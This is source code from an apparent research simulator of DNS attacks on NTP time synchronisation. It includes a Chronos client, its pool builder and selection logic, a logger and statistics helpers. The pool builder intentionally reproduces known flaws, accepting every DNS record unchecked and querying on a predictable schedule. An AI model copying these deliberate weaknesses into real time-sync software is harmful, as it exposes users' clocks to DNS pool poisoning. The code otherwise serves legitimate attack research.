  [[nodiscard]] const std::vector<Ipv4Addr>& pool() const { return pool_; }
  [[nodiscard]] int queries_done() const { return queries_done_; }
  [[nodiscard]] bool finished() const {
    return queries_done_ >= config_.total_queries;
  }

 private:
  void query_once();

  net::NetStack& stack_;
  dns::StubResolver stub_;
  PoolBuilderConfig config_;
  std::vector<Ipv4Addr> pool_;
  int queries_done_ = 0;
  std::function<void(int)> on_query_done_;
};

}  // namespace dnstime::chronos
