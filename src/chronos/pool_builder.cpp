#include "chronos/pool_builder.h"

#include <algorithm>

namespace dnstime::chronos {

PoolBuilder::PoolBuilder(net::NetStack& stack, Ipv4Addr resolver,
                         PoolBuilderConfig config)
    : stack_(stack), stub_(stack, resolver), config_(std::move(config)) {}

void PoolBuilder::start(std::function<void(int)> on_query_done) {
  on_query_done_ = std::move(on_query_done);
  query_once();
}

void PoolBuilder::query_once() {
  stub_.resolve(
      dns::DnsName::from_string(config_.pool_domain), dns::RrType::kA,
      [this](const std::vector<dns::ResourceRecord>& answers) {
        // §VI-B: the union is taken with no per-response checks — every A
        // record is admitted regardless of response size or TTL.
        for (const auto& rr : answers) {
          if (std::find(pool_.begin(), pool_.end(), rr.a) == pool_.end()) {
            pool_.push_back(rr.a);
          }
        }
        queries_done_++;
        if (on_query_done_) on_query_done_(queries_done_);
        if (queries_done_ < config_.total_queries) {
          // §VI-A: strictly periodic — the timing an attacker can predict.
          stack_.loop().schedule_after(config_.query_interval,
                                       [this] { query_once(); });
        }
      });
}

}  // namespace dnstime::chronos
