#include "chronos/selection.h"

#include <algorithm>
#include <numeric>

namespace dnstime::chronos {

namespace {

struct Trimmed {
  std::vector<double> surviving;
};

Trimmed trim_thirds(std::vector<double> offsets) {
  std::sort(offsets.begin(), offsets.end());
  std::size_t d = offsets.size() / 3;
  Trimmed t;
  if (offsets.size() <= 2 * d) return t;
  t.surviving.assign(offsets.begin() + static_cast<std::ptrdiff_t>(d),
                     offsets.end() - static_cast<std::ptrdiff_t>(d));
  return t;
}

double avg(const std::vector<double>& v) {
  return std::accumulate(v.begin(), v.end(), 0.0) /
         static_cast<double>(v.size());
}

}  // namespace

SelectionResult chronos_trim_select(std::vector<double> offsets,
                                    const ChronosParams& params) {
  SelectionResult result;
  if (offsets.empty()) return result;
  Trimmed t = trim_thirds(std::move(offsets));
  if (t.surviving.empty()) return result;

  double spread = t.surviving.back() - t.surviving.front();
  if (spread > params.omega) {
    result.agreement_failed = true;
    return result;
  }
  double offset = avg(t.surviving);
  if (offset > params.err_bound || offset < -params.err_bound) {
    result.drift_check_failed = true;
    return result;
  }
  result.accepted = true;
  result.offset = offset;
  return result;
}

SelectionResult chronos_panic_select(std::vector<double> offsets,
                                     const ChronosParams& params) {
  SelectionResult result;
  if (offsets.empty()) return result;
  Trimmed t = trim_thirds(std::move(offsets));
  if (t.surviving.empty()) return result;
  double spread = t.surviving.back() - t.surviving.front();
  if (spread > params.omega) {
    // Even the full pool disagrees beyond omega: attacker controls between
    // 1/3 and 2/3 — Chronos refuses to update (its availability cost).
    result.agreement_failed = true;
    return result;
  }
  result.accepted = true;
  result.offset = avg(t.surviving);
  return result;
}

}  // namespace dnstime::chronos
