// The Chronos sample-trim-agree selection algorithm (NDSS'18 §4).
//
// Given offset samples from a random subset of the pool: sort, discard the
// top and bottom thirds, and accept the average of the remainder only if
// (a) the surviving samples agree within `omega` and (b) the implied
// adjustment is within the local error bound. Disagreement triggers
// re-sampling, and after `max_retries` failures a "panic" pass queries the
// entire pool. The guarantee — and its boundary, which the paper's §VI-C
// attack crosses — is that an attacker controlling more than 2/3 of the
// pool fully determines the post-trim samples.
#pragma once

#include <optional>
#include <vector>

namespace dnstime::chronos {

struct ChronosParams {
  int sample_size = 15;     ///< m: servers sampled per update
  double omega = 0.050;     ///< agreement bound among surviving samples (s)
  double err_bound = 0.200; ///< max believable drift per update interval (s)
  int max_retries = 3;      ///< re-sample attempts before panic
};

struct SelectionResult {
  bool accepted = false;
  double offset = 0.0;
  bool agreement_failed = false;
  bool drift_check_failed = false;
};

/// One trim-and-check pass over `offsets` (unsorted ok). Pure function so
/// property tests can sweep adversarial inputs.
[[nodiscard]] SelectionResult chronos_trim_select(std::vector<double> offsets,
                                                  const ChronosParams& params);

/// Panic pass: same trim over the entire pool's samples; the drift check
/// is dropped (Chronos trusts the supermajority in panic mode).
[[nodiscard]] SelectionResult chronos_panic_select(
    std::vector<double> offsets, const ChronosParams& params);

}  // namespace dnstime::chronos
