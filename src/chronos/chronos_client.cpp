#include "chronos/chronos_client.h"

namespace dnstime::chronos {

ChronosClient::ChronosClient(net::NetStack& stack, ntp::SystemClock& clock,
                             ntp::ClientBaseConfig base_config,
                             ChronosClientConfig config)
    : NtpClientBase(stack, clock, std::move(base_config)),
      config_chronos_(std::move(config)),
      builder_(stack, NtpClientBase::config_.resolver,
               config_chronos_.pool) {}

void ChronosClient::start() {
  builder_.start();
  schedule_next();
}

void ChronosClient::schedule_next() {
  stack_.loop().schedule_after(config_chronos_.update_interval, [this] {
    update_once(config_chronos_.params.max_retries);
    schedule_next();
  });
}

void ChronosClient::collect_offsets(
    const std::vector<Ipv4Addr>& servers,
    std::function<void(std::vector<double>)> done) {
  auto offsets = std::make_shared<std::vector<double>>();
  auto outstanding = std::make_shared<int>(static_cast<int>(servers.size()));
  if (servers.empty()) {
    done({});
    return;
  }
  for (Ipv4Addr server : servers) {
    poll_server(server, [offsets, outstanding, done](
                            const ntp::PollResult& r) {
      if (r.responded) offsets->push_back(r.offset);
      if (--*outstanding == 0) done(std::move(*offsets));
    });
  }
}

void ChronosClient::update_once(int retries_left) {
  const auto& pool = builder_.pool();
  int m = config_chronos_.params.sample_size;
  if (pool.size() < static_cast<std::size_t>(m)) return;  // pool too small yet

  // Uniform random sample of m servers from the pool.
  auto idx = stack_.rng().sample_indices(pool.size(),
                                         static_cast<std::size_t>(m));
  std::vector<Ipv4Addr> sample;
  sample.reserve(idx.size());
  for (auto i : idx) sample.push_back(pool[i]);

  collect_offsets(sample, [this, retries_left](std::vector<double> offsets) {
    SelectionResult result =
        chronos_trim_select(std::move(offsets), config_chronos_.params);
    if (result.accepted) {
      accepted_++;
      clock_.step(result.offset, stack_.now());
      return;
    }
    if (retries_left > 0) {
      update_once(retries_left - 1);
      return;
    }
    // Panic: poll the whole pool.
    panics_++;
    collect_offsets(builder_.pool(), [this](std::vector<double> all) {
      SelectionResult panic_result =
          chronos_panic_select(std::move(all), config_chronos_.params);
      if (panic_result.accepted) {
        accepted_++;
        clock_.step(panic_result.offset, stack_.now());
      } else {
        rejected_++;
      }
    });
  });
}

}  // namespace dnstime::chronos
