// Chronos-enhanced NTP client (§VI).
//
// Couples the PoolBuilder (24 hourly DNS queries) with the trim-select
// algorithm: each update samples m servers uniformly from the collected
// pool, polls them, and feeds the offsets through chronos_trim_select with
// re-sampling and the panic fallback. The client is provably robust
// against a MitM flipping some NTP responses — and, as the paper shows,
// still falls to an attacker who owns > 2/3 of the *pool* via DNS.
#pragma once

#include <memory>

#include "chronos/pool_builder.h"
#include "chronos/selection.h"
#include "ntp/client_base.h"

namespace dnstime::chronos {

struct ChronosClientConfig {
  ChronosParams params;
  PoolBuilderConfig pool;
  /// Update cadence once the pool has at least `sample_size` servers.
  sim::Duration update_interval = sim::Duration::seconds(64);
};

class ChronosClient : public ntp::NtpClientBase {
 public:
  ChronosClient(net::NetStack& stack, ntp::SystemClock& clock,
                ntp::ClientBaseConfig base_config,
                ChronosClientConfig config = {});

  void start() override;
  [[nodiscard]] std::string name() const override { return "chronos"; }
  [[nodiscard]] std::vector<Ipv4Addr> current_servers() const override {
    return builder_.pool();
  }

  [[nodiscard]] const PoolBuilder& pool_builder() const { return builder_; }
  [[nodiscard]] u64 updates_accepted() const { return accepted_; }
  [[nodiscard]] u64 updates_rejected() const { return rejected_; }
  [[nodiscard]] u64 panics() const { return panics_; }

 private:
  void update_once(int retries_left);
  void collect_offsets(const std::vector<Ipv4Addr>& servers,
                       std::function<void(std::vector<double>)> done);
  void schedule_next();

  ChronosClientConfig config_chronos_;
  PoolBuilder builder_;
  u64 accepted_ = 0;
  u64 rejected_ = 0;
  u64 panics_ = 0;
};

}  // namespace dnstime::chronos
