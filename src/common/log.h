// Minimal leveled logger. Experiments run millions of simulated packets, so
// logging is compile-time cheap when disabled and never allocates on the
// fast path unless the level is active.
//
// Thread contract: the level is an atomic — campaign workers check it while
// the main thread (e.g. a --log-level flag handler) sets it — and each
// record is emitted with a single write() to stderr, so records from
// concurrent workers never interleave mid-line.
#pragma once

#include <atomic>
#include <cstdio>
#include <optional>
#include <sstream>
#include <string>
#include <string_view>

#if defined(_WIN32)
#include <io.h>
#else
#include <unistd.h>
#endif

namespace dnstime {

enum class LogLevel { kTrace = 0, kDebug = 1, kInfo = 2, kWarn = 3, kOff = 4 };

/// Parses a --log-level value ("trace", "debug", "info", "warn", "off");
/// nullopt on anything else.
[[nodiscard]] inline std::optional<LogLevel> parse_log_level(
    std::string_view s) {
  if (s == "trace") return LogLevel::kTrace;
  if (s == "debug") return LogLevel::kDebug;
  if (s == "info") return LogLevel::kInfo;
  if (s == "warn") return LogLevel::kWarn;
  if (s == "off") return LogLevel::kOff;
  return std::nullopt;
}

class Logger {
 public:
  [[nodiscard]] static LogLevel level() {
    return state().load(std::memory_order_relaxed);
  }
  static void set_level(LogLevel l) {
    state().store(l, std::memory_order_relaxed);
  }
  static bool enabled(LogLevel l) { return l >= level(); }

  template <typename... Args>
  static void log(LogLevel l, const char* tag, Args&&... args) {
    if (!enabled(l)) return;
    std::ostringstream os;
    os << "[" << tag << "] ";
    (os << ... << args);
    os << "\n";
    emit(os.str());
  }

 private:
  static std::atomic<LogLevel>& state() {
    static std::atomic<LogLevel> lvl{LogLevel::kOff};
    return lvl;
  }

  /// One syscall per record: concurrent workers' lines cannot interleave
  /// (POSIX write() is atomic with respect to other write() calls for
  /// ordinary-sized buffers on the same file).
  static void emit(const std::string& record) {
#if defined(_WIN32)
    std::fwrite(record.data(), 1, record.size(), stderr);
#else
    std::size_t off = 0;
    while (off < record.size()) {
      const ::ssize_t n =
          ::write(2, record.data() + off, record.size() - off);
      if (n <= 0) return;
      off += static_cast<std::size_t>(n);
    }
#endif
  }
};

#define DNSTIME_LOG(level, tag, ...) \
  ::dnstime::Logger::log(::dnstime::LogLevel::level, tag, __VA_ARGS__)

}  // namespace dnstime
