// Minimal leveled logger. Experiments run millions of simulated packets, so
// logging is compile-time cheap when disabled and never allocates on the
// fast path unless the level is active.
#pragma once

#include <iostream>
#include <sstream>
#include <string>

namespace dnstime {

enum class LogLevel { kTrace = 0, kDebug = 1, kInfo = 2, kWarn = 3, kOff = 4 };

class Logger {
 public:
  static LogLevel& level() {
    static LogLevel lvl = LogLevel::kOff;
    return lvl;
  }
  static bool enabled(LogLevel l) { return l >= level(); }

  template <typename... Args>
  static void log(LogLevel l, const char* tag, Args&&... args) {
    if (!enabled(l)) return;
    std::ostringstream os;
    os << "[" << tag << "] ";
    (os << ... << args);
    std::cerr << os.str() << "\n";
  }
};

#define DNSTIME_LOG(level, tag, ...) \
  ::dnstime::Logger::log(::dnstime::LogLevel::level, tag, __VA_ARGS__)

}  // namespace dnstime
