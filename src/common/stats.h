// Small statistics helpers shared by clients (clock filters take medians),
// measurement analysis (means, percentiles) and the cross-campaign diff
// engine (significance tests: Welch's t, two-proportion z, two-sample KS).
#pragma once

#include <algorithm>
#include <cmath>
#include <cstddef>
#include <limits>
#include <numeric>
#include <vector>

#include "common/types.h"

namespace dnstime {

[[nodiscard]] inline double mean(const std::vector<double>& v) {
  if (v.empty()) return 0.0;
  return std::accumulate(v.begin(), v.end(), 0.0) /
         static_cast<double>(v.size());
}

[[nodiscard]] inline double median(std::vector<double> v) {
  if (v.empty()) return 0.0;
  auto mid = v.size() / 2;
  std::nth_element(v.begin(), v.begin() + static_cast<std::ptrdiff_t>(mid),
                   v.end());
  double hi = v[mid];
  if (v.size() % 2 == 1) return hi;
  std::nth_element(v.begin(),
                   v.begin() + static_cast<std::ptrdiff_t>(mid - 1),
                   v.begin() + static_cast<std::ptrdiff_t>(mid));
  return (v[mid - 1] + hi) / 2.0;
}

[[nodiscard]] inline double stddev(const std::vector<double>& v) {
  if (v.size() < 2) return 0.0;
  double m = mean(v);
  double ss = 0.0;
  for (double x : v) ss += (x - m) * (x - m);
  return std::sqrt(ss / static_cast<double>(v.size() - 1));
}

/// Simple least-squares slope of y over x; the IPID predictor fits the
/// global IPID counter's increment rate with this.
[[nodiscard]] inline double linear_slope(const std::vector<double>& x,
                                         const std::vector<double>& y) {
  if (x.size() != y.size() || x.size() < 2) return 0.0;
  double mx = mean(x), my = mean(y);
  double num = 0.0, den = 0.0;
  for (std::size_t i = 0; i < x.size(); ++i) {
    num += (x[i] - mx) * (y[i] - my);
    den += (x[i] - mx) * (x[i] - mx);
  }
  return den == 0.0 ? 0.0 : num / den;
}

/// Unbiased sample variance (the square of stddev()); 0 for n < 2.
[[nodiscard]] inline double variance(const std::vector<double>& v) {
  if (v.size() < 2) return 0.0;
  double m = mean(v);
  double ss = 0.0;
  for (double x : v) ss += (x - m) * (x - m);
  return ss / static_cast<double>(v.size() - 1);
}

/// Variance of two samples pooled under an equal-variance assumption:
/// ((n1-1)s1^2 + (n2-1)s2^2) / (n1 + n2 - 2). 0 when either sample is
/// empty or there are fewer than two total degrees of freedom — pooling
/// is undefined there, and the unsigned n-1 must never wrap.
[[nodiscard]] inline double pooled_variance(std::size_t n1, double var1,
                                            std::size_t n2, double var2) {
  if (n1 == 0 || n2 == 0 || n1 + n2 < 3) return 0.0;
  return (static_cast<double>(n1 - 1) * var1 +
          static_cast<double>(n2 - 1) * var2) /
         static_cast<double>(n1 + n2 - 2);
}

/// Standard normal CDF, Phi(z). erfc-based: accurate in the far tails,
/// where 1 - erf(z) would cancel to 0.
[[nodiscard]] inline double normal_cdf(double z) {
  return 0.5 * std::erfc(-z / std::sqrt(2.0));
}

/// Two-sided p-value for a standard-normal test statistic.
[[nodiscard]] inline double normal_two_sided_p(double z) {
  if (std::isnan(z)) return 1.0;
  return std::erfc(std::fabs(z) / std::sqrt(2.0));
}

/// Wilson score confidence interval for a binomial proportion.
struct WilsonInterval {
  double low = 0.0;
  double high = 1.0;
};

/// Wilson interval for `successes` out of `trials` at critical value `z`
/// (default 1.96 ~ 95%). Preferred over the normal approximation for the
/// small trial counts campaign progress reports mid-run: it never leaves
/// [0, 1] and stays meaningful at 0/n and n/n. Degenerate contract:
/// trials == 0 (or successes > trials) -> the vacuous {0, 1}.
[[nodiscard]] inline WilsonInterval wilson_interval(u64 successes, u64 trials,
                                                    double z = 1.96) {
  WilsonInterval w;
  // Explicitly the vacuous [0, 1] — not a confident [0, 0] — so a progress
  // stream queried before the first trial completes renders "no information
  // yet" rather than "certainly 0%". Pinned in the stats and forensics
  // tests; do not let this degrade to value-initialised members.
  if (trials == 0 || successes > trials) return WilsonInterval{0.0, 1.0};
  const double n = static_cast<double>(trials);
  const double p = static_cast<double>(successes) / n;
  const double z2 = z * z;
  const double denom = 1.0 + z2 / n;
  const double centre = p + z2 / (2.0 * n);
  const double margin =
      z * std::sqrt(p * (1.0 - p) / n + z2 / (4.0 * n * n));
  w.low = std::max(0.0, (centre - margin) / denom);
  w.high = std::min(1.0, (centre + margin) / denom);
  return w;
}

/// Regularised incomplete beta function I_x(a, b), the workhorse behind
/// the Student-t CDF. Continued fraction per Numerical Recipes (modified
/// Lentz), converging for all a, b > 0 and x in [0, 1].
[[nodiscard]] inline double incomplete_beta(double a, double b, double x) {
  if (x <= 0.0) return 0.0;
  if (x >= 1.0) return 1.0;
  // I_x(a,b) = 1 - I_{1-x}(b,a); evaluate the side where the continued
  // fraction converges fast.
  if (x > (a + 1.0) / (a + b + 2.0)) {
    return 1.0 - incomplete_beta(b, a, 1.0 - x);
  }
  const double ln_front = std::lgamma(a + b) - std::lgamma(a) -
                          std::lgamma(b) + a * std::log(x) +
                          b * std::log1p(-x);
  constexpr double kTiny = 1e-300;
  constexpr double kEps = 1e-14;
  double c = 1.0;
  double d = 1.0 - (a + b) * x / (a + 1.0);
  if (std::fabs(d) < kTiny) d = kTiny;
  d = 1.0 / d;
  double frac = d;
  for (int m = 1; m <= 300; ++m) {
    const double dm = static_cast<double>(m);
    // Even step.
    double num = dm * (b - dm) * x / ((a + 2.0 * dm - 1.0) * (a + 2.0 * dm));
    d = 1.0 + num * d;
    if (std::fabs(d) < kTiny) d = kTiny;
    c = 1.0 + num / c;
    if (std::fabs(c) < kTiny) c = kTiny;
    d = 1.0 / d;
    frac *= d * c;
    // Odd step.
    num = -(a + dm) * (a + b + dm) * x /
          ((a + 2.0 * dm) * (a + 2.0 * dm + 1.0));
    d = 1.0 + num * d;
    if (std::fabs(d) < kTiny) d = kTiny;
    c = 1.0 + num / c;
    if (std::fabs(c) < kTiny) c = kTiny;
    d = 1.0 / d;
    const double delta = d * c;
    frac *= delta;
    if (std::fabs(delta - 1.0) < kEps) break;
  }
  return std::exp(ln_front) * frac / a;
}

/// Two-sided p-value of a Student-t statistic with `df` degrees of
/// freedom: P(|T| >= |t|) = I_{df/(df+t^2)}(df/2, 1/2).
[[nodiscard]] inline double student_t_two_sided_p(double t, double df) {
  if (std::isnan(t) || !(df > 0.0)) return 1.0;
  if (std::isinf(t)) return 0.0;
  return incomplete_beta(df / 2.0, 0.5, df / (df + t * t));
}

/// Outcome of a two-sample location test. `valid` is false when the
/// inputs cannot support the test at all (too few samples); the p-value
/// is then the conservative 1.0, never a fabricated verdict.
struct TestResult {
  double statistic = 0.0;  ///< t or z
  double df = 0.0;         ///< Welch-Satterthwaite df (t-tests only)
  double p = 1.0;          ///< two-sided
  bool valid = false;
};

/// Welch's unequal-variance t-test from summary statistics (sample sizes,
/// means, unbiased sample variances). Degenerate inputs follow a fixed
/// contract the unit tests pin down:
///   * n1 < 2 or n2 < 2            -> invalid (variance is not estimable);
///   * both variances zero, means
///     equal / different           -> t = 0, p = 1  /  t = +-inf, p = 0
///     (zero observed spread makes any difference exact).
[[nodiscard]] inline TestResult welch_t_test(std::size_t n1, double mean1,
                                             double var1, std::size_t n2,
                                             double mean2, double var2) {
  TestResult r;
  if (n1 < 2 || n2 < 2) return r;
  r.valid = true;
  const double a = var1 / static_cast<double>(n1);
  const double b = var2 / static_cast<double>(n2);
  const double se2 = a + b;
  const double diff = mean2 - mean1;
  if (se2 <= 0.0) {
    if (diff == 0.0) {
      r.statistic = 0.0;
      r.df = static_cast<double>(n1 + n2 - 2);
      r.p = 1.0;
    } else {
      r.statistic = diff > 0 ? std::numeric_limits<double>::infinity()
                             : -std::numeric_limits<double>::infinity();
      r.df = static_cast<double>(n1 + n2 - 2);
      r.p = 0.0;
    }
    return r;
  }
  r.statistic = diff / std::sqrt(se2);
  r.df = se2 * se2 /
         (a * a / static_cast<double>(n1 - 1) +
          b * b / static_cast<double>(n2 - 1));
  r.p = student_t_two_sided_p(r.statistic, r.df);
  return r;
}

/// Welch's t-test over two raw samples.
[[nodiscard]] inline TestResult welch_t_test(const std::vector<double>& a,
                                             const std::vector<double>& b) {
  return welch_t_test(a.size(), mean(a), variance(a), b.size(), mean(b),
                      variance(b));
}

/// Two-proportion z-test with pooled standard error: did the success
/// probability move between successes1/n1 and successes2/n2? Degenerate
/// contract: n1 == 0 or n2 == 0 -> invalid; pooled proportion 0 or 1
/// (both samples all-failure or all-success) -> z = 0, p = 1 (the samples
/// agree exactly, there is nothing to test).
[[nodiscard]] inline TestResult two_proportion_z_test(u64 successes1, u64 n1,
                                                      u64 successes2,
                                                      u64 n2) {
  TestResult r;
  if (n1 == 0 || n2 == 0 || successes1 > n1 || successes2 > n2) return r;
  r.valid = true;
  const double p1 = static_cast<double>(successes1) / static_cast<double>(n1);
  const double p2 = static_cast<double>(successes2) / static_cast<double>(n2);
  const double pooled = static_cast<double>(successes1 + successes2) /
                        static_cast<double>(n1 + n2);
  const double se2 = pooled * (1.0 - pooled) *
                     (1.0 / static_cast<double>(n1) +
                      1.0 / static_cast<double>(n2));
  if (se2 <= 0.0) {  // pooled 0 or 1: p1 == p2 exactly
    r.statistic = 0.0;
    r.p = 1.0;
    return r;
  }
  r.statistic = (p2 - p1) / std::sqrt(se2);
  r.p = normal_two_sided_p(r.statistic);
  return r;
}

/// Two-sample Kolmogorov-Smirnov test: statistic = sup |F1 - F2| over the
/// two empirical CDFs, p-value via the asymptotic Kolmogorov distribution
/// with the Stephens small-sample correction. Inputs need not be sorted.
/// Invalid when either sample is empty.
[[nodiscard]] inline TestResult ks_test(std::vector<double> a,
                                        std::vector<double> b) {
  TestResult r;
  if (a.empty() || b.empty()) return r;
  r.valid = true;
  std::sort(a.begin(), a.end());
  std::sort(b.begin(), b.end());
  const double na = static_cast<double>(a.size());
  const double nb = static_cast<double>(b.size());
  double d = 0.0;
  std::size_t i = 0, j = 0;
  while (i < a.size() && j < b.size()) {
    const double x = std::min(a[i], b[j]);
    while (i < a.size() && a[i] <= x) ++i;
    while (j < b.size() && b[j] <= x) ++j;
    d = std::max(d, std::fabs(static_cast<double>(i) / na -
                              static_cast<double>(j) / nb));
  }
  r.statistic = d;
  const double ne = std::sqrt(na * nb / (na + nb));
  const double lambda = (ne + 0.12 + 0.11 / ne) * d;
  if (lambda <= 0.0) {
    r.p = 1.0;
    return r;
  }
  double p = 0.0;
  double sign = 1.0;
  for (int k = 1; k <= 100; ++k) {
    const double term = std::exp(-2.0 * lambda * lambda *
                                 static_cast<double>(k) *
                                 static_cast<double>(k));
    p += sign * term;
    if (term < 1e-12) break;
    sign = -sign;
  }
  r.p = std::clamp(2.0 * p, 0.0, 1.0);
  return r;
}

}  // namespace dnstime
