// Small statistics helpers shared by clients (clock filters take medians)
// and measurement analysis (means, percentiles).
#pragma once

#include <algorithm>
#include <cmath>
#include <cstddef>
#include <numeric>
#include <vector>

namespace dnstime {

[[nodiscard]] inline double mean(const std::vector<double>& v) {
  if (v.empty()) return 0.0;
  return std::accumulate(v.begin(), v.end(), 0.0) /
         static_cast<double>(v.size());
}

[[nodiscard]] inline double median(std::vector<double> v) {
  if (v.empty()) return 0.0;
  auto mid = v.size() / 2;
  std::nth_element(v.begin(), v.begin() + static_cast<std::ptrdiff_t>(mid),
                   v.end());
  double hi = v[mid];
  if (v.size() % 2 == 1) return hi;
  std::nth_element(v.begin(),
                   v.begin() + static_cast<std::ptrdiff_t>(mid - 1),
                   v.begin() + static_cast<std::ptrdiff_t>(mid));
  return (v[mid - 1] + hi) / 2.0;
}

[[nodiscard]] inline double stddev(const std::vector<double>& v) {
  if (v.size() < 2) return 0.0;
  double m = mean(v);
  double ss = 0.0;
  for (double x : v) ss += (x - m) * (x - m);
  return std::sqrt(ss / static_cast<double>(v.size() - 1));
}

/// Simple least-squares slope of y over x; the IPID predictor fits the
/// global IPID counter's increment rate with this.
[[nodiscard]] inline double linear_slope(const std::vector<double>& x,
                                         const std::vector<double>& y) {
  if (x.size() != y.size() || x.size() < 2) return 0.0;
  double mx = mean(x), my = mean(y);
  double num = 0.0, den = 0.0;
  for (std::size_t i = 0; i < x.size(); ++i) {
    num += (x[i] - mx) * (y[i] - my);
    den += (x[i] - mx) * (x[i] - mx);
  }
  return den == 0.0 ? 0.0 : num / den;
}

}  // namespace dnstime
