#include "common/buffer.h"

#include <algorithm>
#include <mutex>
#include <vector>

namespace dnstime {
namespace {

/// Process-wide directory of live pools plus the folded stats of pools
/// whose threads exited. Leaked on purpose: thread_local pool destructors
/// can run after any static destructor would have.
struct PoolRegistry {
  std::mutex mutex;
  std::vector<const BufferPool*> live;
  BufferPool::Stats retired;

  static PoolRegistry& instance() {
    static PoolRegistry* const g = new PoolRegistry;
    return *g;
  }
};

}  // namespace

void BufferPool::Stats::merge(const Stats& o) {
  pool_hits += o.pool_hits;
  fresh_allocs += o.fresh_allocs;
  oversize_allocs += o.oversize_allocs;
  outstanding += o.outstanding;
  cached_blocks += o.cached_blocks;
  cached_bytes += o.cached_bytes;
  for (std::size_t c = 0; c < kNumClasses; ++c) {
    classes[c].pool_hits += o.classes[c].pool_hits;
    classes[c].fresh_allocs += o.classes[c].fresh_allocs;
    classes[c].outstanding += o.classes[c].outstanding;
    classes[c].cached_blocks += o.classes[c].cached_blocks;
    classes[c].cached_bytes += o.classes[c].cached_bytes;
  }
}

BufferPool::BufferPool() {
  PoolRegistry& reg = PoolRegistry::instance();
  std::lock_guard<std::mutex> lock(reg.mutex);
  reg.live.push_back(this);
}

BufferPool::~BufferPool() {
  trim();
  PoolRegistry& reg = PoolRegistry::instance();
  std::lock_guard<std::mutex> lock(reg.mutex);
  reg.retired.merge(stats_);
  auto it = std::find(reg.live.begin(), reg.live.end(), this);
  if (it != reg.live.end()) reg.live.erase(it);
}

BufferPool::Stats BufferPool::aggregate_stats() {
  PoolRegistry& reg = PoolRegistry::instance();
  std::lock_guard<std::mutex> lock(reg.mutex);
  Stats total = reg.retired;
  for (const BufferPool* p : reg.live) total.merge(p->stats_);
  return total;
}

BufferPool& BufferPool::local() {
  thread_local BufferPool pool;
  return pool;
}

std::size_t BufferPool::class_for(std::size_t capacity) {
  std::size_t c = kMinClassShift;
  while ((std::size_t{1} << c) < capacity) ++c;
  return c - kMinClassShift;
}

BufferPool::Block* BufferPool::acquire(std::size_t capacity) {
  stats_.outstanding++;
  if (capacity > (std::size_t{1} << kMaxClassShift)) {
    stats_.oversize_allocs++;
    auto* b = static_cast<Block*>(::operator new(sizeof(Block) + capacity));
    b->next_free = nullptr;
    b->refcount = 1;
    b->capacity = static_cast<u32>(capacity);
    b->class_idx = kOversizeClass;
    return b;
  }
  std::size_t cls = class_for(capacity);
  Stats::PerClass& pc = stats_.classes[cls];
  pc.outstanding++;
  if (Block* b = free_[cls]) {
    free_[cls] = b->next_free;
    stats_.pool_hits++;
    stats_.cached_blocks--;
    stats_.cached_bytes -= b->capacity;
    pc.pool_hits++;
    pc.cached_blocks--;
    pc.cached_bytes -= b->capacity;
    b->next_free = nullptr;
    b->refcount = 1;
    return b;
  }
  stats_.fresh_allocs++;
  pc.fresh_allocs++;
  std::size_t cap = std::size_t{1} << (cls + kMinClassShift);
  auto* b = static_cast<Block*>(::operator new(sizeof(Block) + cap));
  b->next_free = nullptr;
  b->refcount = 1;
  b->capacity = static_cast<u32>(cap);
  b->class_idx = static_cast<u16>(cls);
  return b;
}

void BufferPool::release(Block* b) {
  stats_.outstanding--;
  if (b->class_idx == kOversizeClass) {
    ::operator delete(b);
    return;
  }
  Stats::PerClass& pc = stats_.classes[b->class_idx];
  pc.outstanding--;
  if (stats_.cached_bytes + b->capacity > kMaxCachedBytes) {
    ::operator delete(b);
    return;
  }
  b->next_free = free_[b->class_idx];
  free_[b->class_idx] = b;
  stats_.cached_blocks++;
  stats_.cached_bytes += b->capacity;
  pc.cached_blocks++;
  pc.cached_bytes += b->capacity;
}

void BufferPool::trim() {
  for (Block*& head : free_) {
    while (head) {
      Block* next = head->next_free;
      ::operator delete(head);
      head = next;
    }
  }
  stats_.cached_blocks = 0;
  stats_.cached_bytes = 0;
  for (Stats::PerClass& pc : stats_.classes) {
    pc.cached_blocks = 0;
    pc.cached_bytes = 0;
  }
}

PacketBuf PacketBuf::copy_of(std::span<const u8> data, std::size_t headroom) {
  if (data.empty() && headroom == 0) return {};
  BufferPool::Block* b = BufferPool::local().acquire(headroom + data.size());
  u8* dst = b->data() + headroom;
  if (!data.empty()) std::memcpy(dst, data.data(), data.size());
  return PacketBuf{b, dst, data.size()};
}

PacketBuf PacketBuf::uninitialized(std::size_t n, std::size_t headroom) {
  if (n == 0 && headroom == 0) return {};
  BufferPool::Block* b = BufferPool::local().acquire(headroom + n);
  return PacketBuf{b, b->data() + headroom, n};
}

PacketBuf PacketBuf::slice(std::size_t offset, std::size_t len) const {
  if (offset > len_ || len > len_ - offset) {
    throw std::out_of_range("PacketBuf::slice");
  }
  if (block_) block_->refcount++;
  PacketBuf out{block_, data_ + offset, len};
  out.origin_ = origin_;  // a fragment slice keeps its parent's provenance
  return out;
}

void PacketBuf::ensure_unique() {
  if (block_ == nullptr || block_->refcount == 1) return;
  const Origin origin = origin_;
  *this = copy_of(span(), kPacketHeadroom);
  origin_ = origin;  // copy-on-write must not launder provenance
}

u8* PacketBuf::prepend(std::size_t n) {
  if (block_ && block_->refcount == 1 && headroom() >= n) {
    data_ -= n;
    len_ += n;
    return data_;
  }
  PacketBuf grown = uninitialized(n + len_, kPacketHeadroom);
  grown.origin_ = origin_;
  if (len_ != 0) std::memcpy(grown.data_ + n, data_, len_);
  *this = std::move(grown);
  return data_;
}

void PacketBuf::resize(std::size_t n) {
  if (n <= len_) {
    len_ = n;
    return;
  }
  if (block_ && block_->refcount == 1 && tailroom() >= n - len_) {
    std::memset(data_ + len_, 0, n - len_);
    len_ = n;
    return;
  }
  PacketBuf grown = uninitialized(n, kPacketHeadroom);
  grown.origin_ = origin_;
  if (len_ != 0) std::memcpy(grown.data_, data_, len_);
  std::memset(grown.data_ + len_, 0, n - len_);
  *this = std::move(grown);
}

void PacketBuf::assign(std::size_t n, u8 value) {
  if (!(block_ && block_->refcount == 1 &&
        block_->capacity - headroom() >= n)) {
    const Origin origin = origin_;
    *this = uninitialized(n, kPacketHeadroom);
    origin_ = origin;
  }
  len_ = n;
  if (n != 0) std::memset(data_, value, n);
}

}  // namespace dnstime
