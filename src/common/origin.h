// Packet provenance stamp: which simulated module emitted a buffer, when
// (sim-time), and under which identity (legitimate vs spoofed).
//
// Origin lives in the common layer because PacketBuf carries one; the
// flight recorder that assigns sequence numbers and interprets stamps is
// the obs layer (src/obs/provenance.h).  A stamp is a small POD copied
// alongside the buffer's block/data/len triple, so provenance survives
